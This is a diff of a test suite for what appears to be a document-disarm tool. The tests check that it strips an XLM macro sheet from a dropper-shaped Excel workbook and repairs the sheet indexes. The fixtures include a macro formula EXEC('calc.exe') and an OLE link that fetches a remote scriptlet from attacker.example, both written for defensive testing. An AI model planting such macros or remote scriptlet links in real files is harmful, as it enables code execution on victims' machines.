@@ -215,6 +215,90 @@ describe('OOXML rebuild', () => {
     expect(text).toContain('plain text, no formula');
   });
 
+  describe('sheet positions after a macro sheet goes', () => {
+    const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
+    const R_NS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+    const worksheetType =
+      'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml';
+    const sheetXml = (text: string): string =>
+      `<worksheet xmlns="${S}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${text}</t></is></c></row></sheetData></worksheet>`;
+    const workbook = (sheets: string, rest = ''): string =>
+      `<workbook xmlns="${S}" xmlns:r="${R_NS}"><bookViews><workbookView activeTab="2" firstSheet="1"/></bookViews><sheets>${sheets}</sheets>${rest}</workbook>`;
+    const macro = {
+      name: 'xl/macrosheets/sheet1.xml',
+      contentType: 'application/vnd.ms-excel.macrosheet+xml',
+      data: `<xm:macrosheet xmlns="${S}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>`,
+    };
+    const build = (sheets: string, rest: string, withData: boolean): Promise<Buffer> =>
+      buildOpcPackage(
+        [
+          {
+            name: 'xl/workbook.xml',
+            contentType: OOXML_MAIN_TYPES.xlsm,
+            data: workbook(sheets, rest),
+            relationships: [
+              { id: 'rIdM', type: RELATIONSHIP_TYPES.macrosheet, target: 'macrosheets/sheet1.xml' },
+              ...(withData
+                ? [
+                    {
+                      id: 'rId1',
+                      type: RELATIONSHIP_TYPES.worksheet,
+                      target: 'worksheets/sheet1.xml',
+                    },
+                    {
+                      id: 'rId2',
+                      type: RELATIONSHIP_TYPES.worksheet,
+                      target: 'worksheets/sheet2.xml',
+                    },
+                  ]
+                : []),
+            ],
+          },
+          macro,
+          ...(withData
+            ? [
+                {
+                  name: 'xl/worksheets/sheet1.xml',
+                  contentType: worksheetType,
+                  data: sheetXml('Data'),
+                },
+                {
+                  name: 'xl/worksheets/sheet2.xml',
+                  contentType: worksheetType,
+                  data: sheetXml('Summary'),
+                },
+              ]
+            : []),
+        ],
+        [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'xl/workbook.xml' }],
+      );
+
+    it('moves tab and name indexes, drops names local to it, and shows a sheet', async () => {
+      // The dropper's shape: the macro sheet first and the only visible one.
+      const input = await build(
+        '<sheet name="Macro1" sheetId="3" r:id="rIdM"/><sheet name="Data" sheetId="1" state="hidden" r:id="rId1"/><sheet name="Summary" sheetId="2" state="veryHidden" r:id="rId2"/>',
+        '<definedNames><definedName name="_xlnm.Print_Area" localSheetId="2">Summary!$A$1:$B$2</definedName><definedName name="Local" localSheetId="0">Macro1!$A$1</definedName></definedNames>',
+        true,
+      );
+      const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsm' }));
+      expect(findingsOf(outcome)).toEqual({ 'xlm-macro': 2 });
+      const { text } = await unzipped(outcome.bytes);
+      expect(text).toContain('<workbookView activeTab="0" firstSheet="0"/>');
+      expect(text).toContain('<sheet name="Data" sheetId="1" r:id="rId1"/>');
+      expect(text).toContain('<sheet name="Summary" sheetId="2" state="veryHidden" r:id="rId2"/>');
+      expect(text).toContain('<definedName name="_xlnm.Print_Area" localSheetId="1">');
+      expect(text).not.toMatch(/Macro1|name="Local"/);
+    });
+
+    it('refuses a workbook of macro sheets only as invalid_file', async () => {
+      const input = await build('<sheet name="Macro1" sheetId="1" r:id="rIdM"/>', '', false);
+      expect(await disarm({ bytes: input, fileName: 'a.xlsm' })).toMatchObject({
+        status: 'rejected',
+        reason: 'invalid_file',
+      });
+    });
+  });
+
   it('removes OLE frames and macro actions from PowerPoint, keeping the slide text', async () => {
     const input = await buildPresentation('ppsx', {
       externalOle: 'script:http://attacker.example/x.sct',
